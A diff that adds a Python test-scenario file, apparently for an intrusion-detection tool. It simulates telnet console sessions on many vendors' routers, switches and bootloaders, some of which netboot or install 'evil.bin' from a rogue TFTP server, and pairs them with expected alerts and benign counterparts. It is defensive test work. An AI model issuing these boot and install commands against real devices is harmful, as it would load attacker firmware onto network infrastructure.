@@ -1,0 +1,137 @@
+"""BW07: netboots on the consoles of loaders, and the words of other vendors' command lines."""
+
+from __future__ import annotations
+
+from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
+from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, IMAGE, ROGUE
+from bootwarden.traffic.telnet import Telnet
+from bootwarden.traffic.wire import Wire
+
+EVIL = f"tftp://{ROGUE}/evil.bin"
+
+
+def command(last: int, file: str | None = "evil.bin", server: str | None = ROGUE) -> Notice:
+    """The notice of one command or output on device 10.0.1.``last``."""
+    return Notice("Boot_Command", f"10.0.1.{last}", server, file)
+
+
+def console(wire: Wire, last: int, prompt: str, *lines: tuple[str, str], client: str = ATTACKER) -> None:
+    """A console behind telnet: lines, each with what it prints."""
+    session = Telnet(wire, client, f"10.0.1.{last}", prompt=prompt)
+    session.tcp.reply(prompt.encode())
+    for line, output in lines:
+        session.typed(line, output)
+    session.close()
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(alerts=tuple(Alert(1542005070, ATTACKER, f"10.0.1.{last}") for last in range(21, 26))),
+    site=HQ,
+    with_site=Expect(
+        tuple(command(last) for last in range(21, 28)),
+        alerts=tuple(Alert(1542107000, ATTACKER, f"10.0.1.{last}") for last in range(21, 26)),
+    ),
+)
+def bw07_consoles(wire: Wire) -> None:
+    """Netboots on consoles, server and file in variables, of IOS, IOS-XE, IOS-XR, ASA, NX-OS, Aboot and U-Boot."""
+    variables = (("IP_ADDRESS=10.0.1.21", ""), (f"TFTP_SERVER={ROGUE}", ""), ("TFTP_FILE=evil.bin", ""))
+    console(wire, 21, "rommon 3 > ", *variables, ("tftpdnld -r", "Receiving evil.bin from 10.0.6.66 !!!!!!!"))
+    console(wire, 22, "rommon 3 > ", *variables, ("boot tftp:", ""))
+    console(wire, 23, "rommon B1 > ", (f"boot {EVIL}", "Beginning TFTP boot:"))
+    asa = (("ADDRESS=10.0.1.24", ""), (f"SERVER={ROGUE}", ""), ("IMAGE=evil.bin", ""))
+    console(wire, 24, "rommon #8> ", *asa, ("tftpdnld", f"tftp evil.bin@{ROGUE} via 10.0.1.254"))
+    console(wire, 25, "loader> ", ("set ip 10.0.1.25 255.255.255.0", ""), (f"boot {EVIL}", ""))
+    console(wire, 26, "Aboot# ", (f"SWI={EVIL}", ""))
+    uboot = ((f"setenv serverip {ROGUE}; setenv bootfile evil.bin; saveenv", "Saving Environment to Flash..."),)
+    console(wire, 27, "=> ", *uboot, ("tftpboot 0x81000000; bootm", ""))
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    site=HQ,
+    with_site=Expect((command(31), command(32, "evil.img"), command(33, "asa.bin"))),
+)
+def bw07_loaders_say(wire: Wire) -> None:
+    """Nobody types anything: the loaders of IOS-XE, U-Boot and ASA say from where they load by themselves."""
+    for last, output in (
+        (31, f"Receiving evil.bin from {ROGUE} !!!!!!"),
+        (32, f"TFTP from server {ROGUE}; our IP address is 10.0.1.32\r\nFilename 'evil.img'.\r\nLoading: ####"),
+        (33, f"tftp asa.bin@{ROGUE} via 10.0.1.254"),
+    ):
+        session = Telnet(wire, ADMIN, f"10.0.1.{last}")
+        session.tcp.reply(f"\r\nBooting\r\n{output}\r\ndone\r\n".encode())
+        session.close()
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    plain=Expect(
+        alerts=tuple(
+            Alert(sid, ATTACKER, f"10.0.1.{last}")
+            for sid, last in ((1542005071, 42), (1542005071, 45), (1542005070, 46), (1542005070, 49))
+        )
+    ),
+    site=HQ,
+    with_site=Expect(
+        (*(command(last) for last in range(41, 50)), command(50, None, None)),
+        alerts=tuple(
+            Alert(sid, ATTACKER, f"10.0.1.{last}")
+            for sid, last in ((1542107001, 42), (1542107001, 45), (1542107000, 46), (1542107000, 49))
+        ),
+    ),
+)
+def bw07_vendors_typed(wire: Wire) -> None:
+    """Commands of Junos, EOS, VRP, Comware, ProCurve, FastIron, ExtremeXOS, FTOS, ASA and RouterOS."""
+    evil = "evil.bin"
+    console(wire, 41, "root@mx1> ", (f"request system software add {EVIL} no-validate reboot", ""))
+    console(wire, 42, "leaf1#", (f"copy {EVIL} flash:", ""))
+    console(wire, 43, "<core1>", (f"tftp -a 10.0.1.43 {ROGUE} get {evil}", ""))
+    console(wire, 44, "<core2>", (f"tftp {ROGUE} get {evil}", ""))
+    console(wire, 45, "ProCurve# ", (f"copy tftp flash {ROGUE} {evil} secondary", ""))
+    console(wire, 46, "ICX(config)#", (f"boot system tftp {ROGUE} {evil}", ""))
+    console(wire, 47, "X440.1 # ", (f"download image {ROGUE} {evil} vr VR-Default", ""))
+    console(wire, 48, "FTOS(conf)#", (f"boot system stack-unit 1 primary {EVIL}", ""))
+    console(wire, 49, "asa1(config)# ", (f"boot system {EVIL}", ""))
+    console(
+        wire, 50, "[admin@mt1] > ", ("/system routerboard settings set boot-device=try-ethernet-once-then-nand", "")
+    )
+
+
+@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
+def bw07_local_boots(wire: Wire) -> None:
+    """Devices boot from their flash, are looked at, and a Unix host's tftp client fetches a file."""
+    console(wire, 21, "rommon 3 > ", ("BOOT=flash:c2900.bin", ""), ("boot flash:c2900.bin", ""), ("confreg 0x2102", ""))
+    console(wire, 22, "switch: ", ("set BOOT flash:/c2960.bin", ""), ("boot", ""))
+    console(wire, 23, "=> ", ("printenv", f"serverip={ROGUE}\nbootcmd=bootm 0x9f020000"), ("bootm 0x9f020000", ""))
+    console(wire, 24, "rommon #8> ", (f"SERVER={ROGUE}", ""), ("boot disk0:/asa.bin", ""))
+    console(wire, 25, "<core1>", ("display startup", f"Startup system software: flash:/x.cc\n tftp {ROGUE} get x.cc"))
+    console(wire, 26, "<core1>", ("startup system-software flash:/x.cc", ""), (f"tftp {ROGUE} put vrpcfg.zip", ""))
+    console(wire, 27, "ProCurve# ", ("boot set-default flash primary", ""), ("show flash", ""))
+    console(wire, 28, "leaf1#", ("zerotouch cancel", ""), ("boot system flash:EOS.swi", ""))
+    console(wire, 29, "[admin@mt1] > ", ("/system routerboard settings set boot-device=nand-only", ""))
+    console(wire, 30, "$ ", (f"tftp {ROGUE}", "tftp> "), ("dhcp -v eth0", ""), ("load average", ""))
+
+
+@scenario(
+    "BW07",
+    "benign",
+    plain=Expect(alerts=(Alert(1542005070, ADMIN, "10.0.1.21"),)),
+    site=HQ,
+    with_site=Expect(
+        evidence=(
+            {"device": "10.0.1.21", "server": BOOT_SERVER, "file_name": IMAGE, "verdict": "expected"},
+            {"device": "10.0.1.21", "server": BOOT_SERVER, "file_name": IMAGE, "verdict": "expected"},
+            {"device": "10.0.1.22", "server": BOOT_SERVER, "file_name": IMAGE, "verdict": "expected"},
+        )
+    ),
+)
+def bw07_rescue_from_declared_server(wire: Wire) -> None:
+    """An admin rescues a router and a switch on their consoles, with the approved image from the declared server."""
+    variables = ((f"TFTP_SERVER={BOOT_SERVER}", ""), (f"TFTP_FILE={IMAGE}", ""))
+    output = f"Receiving {IMAGE} from {BOOT_SERVER} !!!!!!!"
+    console(wire, 21, "rommon 3 > ", *variables, ("tftpdnld", output), client=ADMIN)
+    console(wire, 22, "=> ", (f"tftpboot 0x81000000 {BOOT_SERVER}:{IMAGE}", ""), client=ADMIN)
